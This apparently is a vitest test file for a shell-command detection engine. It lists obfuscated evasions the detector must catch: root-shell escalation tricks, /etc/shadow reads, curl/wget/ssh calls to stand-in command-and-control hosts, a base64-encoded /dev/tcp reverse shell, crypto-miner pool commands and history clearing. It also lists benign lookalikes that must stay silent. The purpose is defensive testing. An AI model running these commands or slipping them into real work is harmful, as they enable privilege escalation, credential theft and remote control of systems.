// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the test commands are shell syntax
// Evasions from DETECTION-NOTES.md that the analysis must see through, and lookalikes that must stay quiet.
import { describe, expect, it } from 'vitest';
import { createEngine } from '../../detectors/index.js';
import { fixtureIocs, record } from './helpers.js';

const { engine } = createEngine({ iocTexts: fixtureIocs() });

function ruleIds(lines: string[]): string[] {
  const session = engine.session({ sessionId: 'evasion' });
  let ids: string[] = [];
  lines.forEach((line, i) => {
    ids = session.analyze(record(line, i + 1)).map((d) => d.ruleId);
  });
  return ids;
}

const ROOT_SHELL = 'sw-privesc-root-shell';
const evasions: [string, string[], string][] = [
  ['quotes inside words', ['s\'\'udo s""u'], ROOT_SHELL],
  ['quoted program', ['"sudo" "su" "-"'], ROOT_SHELL],
  ['backslashes', ['\\sudo \\su'], ROOT_SHELL],
  ['backslashes in a path', ['sudo /\\b\\i\\n/s\\h'], ROOT_SHELL],
  ['empty command substitution', ['su$()do su'], ROOT_SHELL],
  ['empty backticks', ['sudo s``u'], ROOT_SHELL],
  ['$IFS for spaces', ['sudo${IFS}su'], ROOT_SHELL],
  ['ANSI-C quoting', ["$'\\x73udo' su"], ROOT_SHELL],
  ['ANSI-C octal', ["$'\\163\\165\\144\\157' -i"], ROOT_SHELL],
  ['brace expansion', ['{sudo,su}'], ROOT_SHELL],
  ['variables across a line', ['a=su;b=do;$a$b $a'], ROOT_SHELL],
  ['variables from earlier lines', ['x=su', 'sudo $x -'], ROOT_SHELL],
  ['exported variable', ['export S=sudo', '$S -s'], ROOT_SHELL],
  ['slices', ['v=xsudox', '${v:1:4} -i'], ROOT_SHELL],
  ['default expansion', ['${UNSET:-sudo} su'], ROOT_SHELL],
  ['case modification', ['v=SUDO', '${v,,} -s'], ROOT_SHELL],
  ['glob in a path', ['/u?r/b?n/s?do -s'], ROOT_SHELL],
  ['full path', ['/usr/bin/sudo /bin/su -'], ROOT_SHELL],
  ['extra spaces', ['sudo     su     -'], ROOT_SHELL],
  ['sudo --', ['sudo -- su -'], ROOT_SHELL],
  ['sudo options', ['sudo -E -H -u root -- /bin/bash'], ROOT_SHELL],
  ['uid -1', ['sudo -u#-1 /bin/bash'], ROOT_SHELL],
  ['command wrapper', ['command sudo su'], ROOT_SHELL],
  ['exec wrapper', ['exec sudo -i'], ROOT_SHELL],
  ['env wrapper', ['env -i PATH=/usr/bin sudo su'], ROOT_SHELL],
  ['nohup, timeout, nice', ['nohup timeout 60 nice -n 5 sudo bash'], ROOT_SHELL],
  ['busybox', ['sudo busybox sh'], ROOT_SHELL],
  ['sh -c', ["sh -c 'sudo su'"], ROOT_SHELL],
  ['nested sh -c', ['bash -c "sh -c \\"sudo -i\\""'], ROOT_SHELL],
  ['eval', ['eval "sudo" "su"'], ROOT_SHELL],
  ['base64 chain', ['echo c3VkbyBzdSAt | base64 -d | sh'], ROOT_SHELL],
  ['double base64', ['echo YzNWa2J5QnpkU0F0 | base64 -d | base64 -d | bash'], ROOT_SHELL],
  ['base64 in a command substitution', ['bash -c "$(echo c3VkbyAtaQ== | base64 --decode)"'], ROOT_SHELL],
  ['hex with xxd', ['echo 7375646f202d69 | xxd -r -p | sh'], ROOT_SHELL],
  ['reversed', ["echo 'i- odus' | rev | bash"], ROOT_SHELL],
  ['here-string', ['bash <<< "sudo su"'], ROOT_SHELL],
  ['su -c shell', ['su -c /bin/sh'], ROOT_SHELL],
  ['vim escape', ["sudo vim -c ':!/bin/sh'"], ROOT_SHELL],
  ['find -exec', ['sudo find /etc -name passwd -exec /bin/bash \\;'], ROOT_SHELL],
  ['awk system', ['sudo awk \'BEGIN {system("/bin/sh")}\''], ROOT_SHELL],
  ['python os.system', ['sudo python3 -c \'import os; os.system("/bin/bash")\''], ROOT_SHELL],
  ['pkexec', ['pkexec'], ROOT_SHELL],
  ['doas', ['doas -s'], ROOT_SHELL],
  ['systemd-run', ['systemd-run --pty --shell'], ROOT_SHELL],
  ['alias defined earlier', ["alias ll='sudo su -'", 'll'], ROOT_SHELL],
  ['function defined earlier', ['up() { sudo -i; }', 'up'], ROOT_SHELL],
  ['history expansion', ['su -', '!!'], ROOT_SHELL],
  ['sudo !!', ['bash', 'sudo !!'], ROOT_SHELL],
  ['backslash-newline continuation', ['sud\\\no su'], ROOT_SHELL],
  ['in a subshell', ['(sudo su)'], ROOT_SHELL],
  ['in an if', ['if true; then sudo -s; fi'], ROOT_SHELL],
  ['after &&', ['cd /tmp && sudo bash'], ROOT_SHELL],
  ['after a program named like a JavaScript property', ['constructor -e x; sudo su -'], ROOT_SHELL],
  ['variable slice spelling a path', ['cat ${HOME:0:1}etc${HOME:0:1}shadow'], 'sw-cred-shadow-file'],
  ['glob for a sensitive file', ['cat /e?c/sh*w'], 'sw-cred-shadow-file'],
  ['uppercase URL and trailing dot', ['curl -s HTTP://DL.BAD-CDN.TOP./install.sh'], 'sw-ioc-contact'],
  ['userinfo in URL', ['curl http://github.com@dl.bad-cdn.top/x'], 'sw-ioc-contact'],
  ['decimal IP', ['curl http://3405803842/x'], 'sw-ioc-contact'],
  ['hex IP', ['wget http://0xcb.0x0.0x71.0x42/x'], 'sw-ioc-contact'],
  ['port in URL', ['curl http://203.0.113.66:8080/x'], 'sw-ioc-contact'],
  ['URL in a variable', ['U=http://c2.evil-updates.example/a.sh', 'curl -s $U'], 'sw-ioc-contact'],
  ['host without scheme', ['wget dl.bad-cdn.top/x.sh'], 'sw-ioc-contact'],
  ['subdomain of an indicator', ['curl https://cdn.dl.bad-cdn.top/'], 'sw-ioc-contact'],
  ['defanged indicator in the list', ['curl http://miner-drop.example/m'], 'sw-ioc-contact'],
  ['/dev/tcp to an indicator', ["bash -c 'echo hi > /dev/tcp/203.0.113.66/443'"], 'sw-ioc-contact'],
  [
    'python one-liner',
    ['python3 -c "import urllib.request;urllib.request.urlopen(\'http://c2.evil-updates.example/x\')"'],
    'sw-ioc-contact',
  ],
  ['ssh to an indicator', ['ssh -p 2222 root@c2.evil-updates.example'], 'sw-ioc-contact'],
  ['uppercase stratum URL', ['./k -o STRATUM+TCP://pool.minexmr.com:4444'], 'sw-crypto-stratum-url'],
  ['renamed miner', ['/tmp/.x/kthreadd -o pool.supportxmr.com:3333 --donate-level=1'], 'sw-crypto-miner-flags'],
  [
    'decoded reverse shell',
    ['echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTguNTEuMTAwLjMvNDQ0NCAwPiYx | base64 -d | bash'],
    'sw-revshell-dev-tcp',
  ],
  ['history clearing through a variable', ['h=HISTFILE', 'unset $h'], 'sw-evasion-history-clearing'],
];

const lookalikes: [string, string[]][] = [
  ['echo of a command', ['echo "sudo su"']],
  ['note written to a file', ["echo 'reminder: never sudo su on prod' > notes.txt"]],
  ['grep for stratum', ['grep stratum /var/log/syslog']],
  ['grep for a pool', ['grep -r "stratum+tcp://pool.minexmr.com" /etc']],
  ['sudo -l', ['sudo -l']],
  ['man sudo', ['man sudo']],
  ['sudo with a command', ['sudo systemctl restart nginx']],
  ['sudo -u another user', ['sudo -u postgres psql -c "select 1"']],
  ['su to another user', ['su - deploy']],
  ['indicator as a substring of a host', ['curl https://notdl.bad-cdn.top.example.org/']],
  ['indicator as a prefix of a host', ['curl https://dl.bad-cdn.top.cdn.example.net/']],
  ['lookalike host', ['curl https://xdl.bad-cdn.top.example/']],
  ['neighbour IP', ['curl http://203.0.113.67/']],
  ['indicator in a comment', ['ls # dl.bad-cdn.top']],
  ['indicator printed', ['printf "%s\\n" http://dl.bad-cdn.top/']],
  ['base64 decoded but not run', ['echo c3VkbyBzdQ== | base64 -d']],
  ['local health check', ['curl -s http://localhost:8080/health']],
  ['github', ['curl -sI https://github.com']],
  ['quoted text with a miner name', ['git commit -m "block xmrig and stratum+tcp"']],
  ['cancelled by a comment char', ['#sudo su']],
  ['single-quoted variable', ["echo '$(sudo su)'"]],
];

describe('evasions are seen through', () => {
  for (const [name, lines, rule] of evasions) {
    it(`${name}: ${lines.join(' ⏎ ')}`, () => {
      expect(ruleIds(lines)).toContain(rule);
    });
  }
});

describe('lookalikes stay quiet', () => {
  for (const [name, lines] of lookalikes) {
    it(`${name}: ${lines.join(' ⏎ ')}`, () => {
      expect(ruleIds(lines)).toEqual([]);
    });
  }
});

describe('padding cannot use up the analysis budget', () => {
  it('a 30,000-character unquoted word before the command hides nothing', () => {
    const pad = 'A'.repeat(30_000);
    expect(ruleIds([`export PAD=${pad}; wget http://203.0.113.66/x86_64/kworker -O .kw`])).toContain('sw-ioc-contact');
    expect(ruleIds([`: ${pad} ${pad}; sudo su -`])).toContain(ROOT_SHELL);
  });
});
